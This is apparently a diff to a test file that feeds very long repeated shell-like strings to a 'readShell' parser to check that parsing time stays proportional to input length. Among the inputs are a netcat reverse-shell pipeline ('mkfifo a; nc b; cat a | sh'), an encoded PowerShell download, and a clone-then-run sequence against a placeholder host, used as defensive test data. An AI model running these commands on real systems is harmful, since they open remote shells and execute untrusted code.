@@ -214,6 +214,12 @@ t.test('hostile lines cost as much as they are long', async (t) => {
     'powershell -e iwr\n'.repeat(20_000),
     'a|'.repeat(50_000),
     '${A'.repeat(50_000),
+    'cd x\n'.repeat(80_000),
+    `npm${' -a=https:b'.repeat(30_000)}`,
+    'gh api '.repeat(30_000),
+    'git clone https://c.invalid/x\nnode y\n'.repeat(10_000),
+    'mkfifo a; nc b; cat a | sh\n'.repeat(10_000),
+    'concurrently "'.repeat(3_000),
   ]) {
     const start = process.cpuUsage()
     readShell(line)
